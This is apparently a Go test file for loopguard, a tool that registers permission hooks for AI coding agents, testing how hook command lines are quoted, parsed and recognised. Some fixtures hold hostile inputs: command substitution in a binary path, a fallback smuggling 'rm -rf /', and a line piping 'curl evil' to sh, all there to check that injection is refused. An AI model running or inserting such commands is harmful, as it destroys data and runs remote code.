package register

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/loopguard/loopguard/agents"
	"github.com/loopguard/loopguard/hooks"
)

// normal is c as Parse reads it back: the defaults filled in.
func normal(c Command) Command {
	if c.Mode == "" {
		c.Mode = hooks.ModeEnforce
	}
	if c.Deadline == 0 {
		c.Deadline = agents.DefaultDeadline
	}
	return c
}

var commands = []Command{
	{Binary: "/usr/local/bin/loopguard-hook", Event: "PreToolUse", Mode: "ask", Wait: 2 * time.Minute},
	{Binary: "/usr/local/bin/loopguard", Event: "PostToolUse"},
	{Binary: "loopguard-hook", Event: "PermissionRequest", Mode: "audit"}, // the plugin's: found in PATH
	{Binary: "/opt/lg/loopguard", Agent: "codex", Event: "PreToolUse", Fallback: `{"hookSpecificOutput":{"permissionDecision":"deny","permissionDecisionReason":"loopguard: hook_failed: it's blocked"}}`},
	{Binary: "/home/o'neil/my bin/loopguard", Agent: "gemini", Event: "BeforeTool", Deadline: 9 * time.Second},
	{Binary: "/x/$(id)/`id`/*/loopguard", Agent: "copilot", Event: "preToolUse"},
	{Binary: "/x/loopguard", Agent: "qwen", Event: "PreToolUse", Fallback: "deny; rm -rf / # '\" $HOME"},
}

// TestRoundTrip: every command reads back as itself from its exec form
// (Parse of Binary and Args) and its shell form (ParseShell of String),
// the shell form read by bash's own grammar (shellparse), quotes, spaces
// and shell syntax in the binary and the fallback included.
func TestRoundTrip(t *testing.T) {
	for _, c := range commands {
		want := normal(c)
		fb := c.Fallback
		c.Fallback = ""
		got, err := Parse(append([]string{c.Binary}, c.Args()...), "")
		if err != nil || !reflect.DeepEqual(got, normal(c)) {
			t.Errorf("Parse(%q) = %+v, %v; want %+v", c.Args(), got, err, normal(c))
		}
		c.Fallback = fb
		got, err = ParseShell(c.String(), "")
		if err != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("ParseShell(%s) = %+v, %v; want %+v", c.String(), got, err, want)
		}
	}
}

// TestWritten: the bytes init writes are the ones it always wrote (Codex
// trusts a hook by the hash of its command: a change would make every
// user trust it again).
func TestWritten(t *testing.T) {
	for _, c := range []struct {
		c    Command
		want string
	}{
		{Command{Binary: "/opt/lg/loopguard", Agent: "codex", Event: "PreToolUse", Fallback: `{"a":"b c"}`},
			`/opt/lg/loopguard hook codex --event PreToolUse --mode enforce || echo '{"a":"b c"}'`},
		{Command{Binary: "/my bin/loopguard-hook", Agent: "cursor", Event: "preToolUse", Mode: "audit"},
			`'/my bin/loopguard-hook' hook cursor --event preToolUse --mode audit`},
	} {
		if got := c.c.String(); got != c.want {
			t.Errorf("String() = %s\nwant        %s", got, c.want)
		}
	}
	c := Command{Binary: "/b/loopguard", Event: "PreToolUse", Wait: 90 * time.Second}
	if got := strings.Join(c.Args(), " "); got != "hook --event PreToolUse --mode enforce --wait 1m30s" {
		t.Errorf("Args() = %s", got)
	}
}

// TestNotHook: a command line is loopguard's hook only when its executable
// is loopguard's (by name, or the running binary) and "hook" comes first;
// bad arguments after that keep it loopguard's (uninstall removes it,
// doctor names it), but are an error.
func TestNotHook(t *testing.T) {
	self := "/opt/lg"
	for _, c := range []struct {
		argv []string
		ours bool
	}{
		{[]string{"/usr/bin/loopguard", "hook", "--event", "PreToolUse"}, true},
		{[]string{"loopguard-hook", "hook"}, true},
		{[]string{`C:\lg\loopguard.exe`, "hook"}, false}, // not a path on this system
		{[]string{"/opt/lg", "hook"}, true},              // self
		{[]string{"/opt/lg2", "hook"}, false},
		{[]string{"/usr/bin/loopguard-fork", "hook"}, false},
		{[]string{"/usr/bin/notloopguard", "hook"}, false},
		{[]string{"/usr/bin/loopguard", "approve"}, false},
		{[]string{"/usr/bin/loopguard"}, false},
		{nil, false},
	} {
		_, err := Parse(c.argv, self)
		if got := !errors.Is(err, ErrNotHook); got != c.ours {
			t.Errorf("Parse(%q): ours %v, want %v (%v)", c.argv, got, c.ours, err)
		}
	}
	for _, c := range []struct {
		line string
		ours bool
		ok   bool
	}{
		{"loopguard hook --event PreToolUse", true, true},
		{`"/x y/loopguard" hook`, true, true},
		{`/x/loopguard hook codex --event PreToolUse || echo deny`, true, true},
		{`/x/loopguard hook --event PreToolUse; curl evil | sh`, true, false},
		{`/x/loopguard hook --event PreToolUse && echo ok`, true, false},
		{`/x/loopguard hook --mode yolo`, true, false},
		{`/x/loopguard hook --event PreToolUse extra`, true, false},
		// Controls: not loopguard's hook.
		{"notloopguard hook", false, false},
		{"loopguard", false, false},
		{"echo loopguard hook", false, false},
		{"/x/loopguard approve x", false, false},
		{`$LG hook`, false, false}, // an expansion: which binary runs is not in the line
		{`/x/loopguard hook > /tmp/log`, false, false},
		{`(/x/loopguard hook)`, false, false},
		{"", false, false},
		{"'unterminated", false, false},
	} {
		_, err := ParseShell(c.line, self)
		if got := !errors.Is(err, ErrNotHook); got != c.ours || (err == nil) != c.ok {
			t.Errorf("ParseShell(%s): ours %v ok %v, want %v %v (%v)", c.line, got, err == nil, c.ours, c.ok, err)
		}
	}
}

// TestParseArgs: the hook's own reading of its arguments (hookmain), with
// what it keeps on an error: the agent, so that the deny is in that
// agent's format.
func TestParseArgs(t *testing.T) {
	for _, c := range []struct {
		args []string
		want Command
		ok   bool
	}{
		{nil, Command{Mode: "enforce", Deadline: agents.DefaultDeadline}, true}, // Copilot runs it bare
		{[]string{"--event", "PreToolUse", "--mode", "enforce", "--wait", "2m0s"},
			Command{Event: "PreToolUse", Mode: "enforce", Wait: 2 * time.Minute, Deadline: agents.DefaultDeadline}, true},
		{[]string{"codex", "--event=PreToolUse", "-mode", "ask", "--deadline", "9s"},
			Command{Agent: "codex", Event: "PreToolUse", Mode: "ask", Deadline: 9 * time.Second}, true},
		{[]string{"gemini", "--mode", "yolo"}, Command{Agent: "gemini", Mode: "yolo", Deadline: agents.DefaultDeadline}, false},
		{[]string{"cursor", "--event", "x", "extra"}, Command{Agent: "cursor", Event: "x", Mode: "enforce", Deadline: agents.DefaultDeadline}, false},
		{[]string{"qwen", "--wait", "soon"}, Command{Agent: "qwen", Mode: "enforce", Deadline: agents.DefaultDeadline}, false},
		{[]string{"--bogus"}, Command{Mode: "enforce", Deadline: agents.DefaultDeadline}, false},
	} {
		got, err := ParseArgs(c.args)
		var ae *ArgsError
		if (err == nil) != c.ok || (err != nil && !errors.As(err, &ae)) || !reflect.DeepEqual(got, c.want) {
			t.Errorf("ParseArgs(%q) = %+v, %v; want %+v (ok %v)", c.args, got, err, c.want, c.ok)
		}
	}
}

func TestTimeoutFor(t *testing.T) {
	for _, c := range []struct {
		d, w time.Duration
		want int
	}{{5 * time.Second, 0, 30}, {5 * time.Second, 2 * time.Minute, 150}, {5 * time.Second, 1500 * time.Millisecond, 32}} {
		if got := TimeoutFor(c.d, c.w); got != c.want {
			t.Errorf("TimeoutFor(%s, %s) = %d, want %d", c.d, c.w, got, c.want)
		}
	}
}

// FuzzShellRoundTrip: whatever the binary and the fallback hold, the shell
// form reads back as the command, or is refused; never as another.
func FuzzShellRoundTrip(f *testing.F) {
	for _, c := range commands {
		f.Add(c.Binary, c.Agent, c.Fallback)
	}
	f.Fuzz(func(t *testing.T, bin, agent, fallback string) {
		if !strings.HasSuffix(bin, "/loopguard") || agent == "" || strings.HasPrefix(agent, "-") || strings.Contains(bin+agent+fallback, "\x00") {
			return // no NUL: neither exec nor a shell word carries one
		}
		c := Command{Binary: bin, Agent: agent, Event: "PreToolUse", Fallback: fallback}
		got, err := ParseShell(c.String(), "")
		if err == nil && !reflect.DeepEqual(got, normal(c)) {
			t.Fatalf("ParseShell(%s) = %#v, want %#v", c.String(), got, normal(c))
		}
	})
}
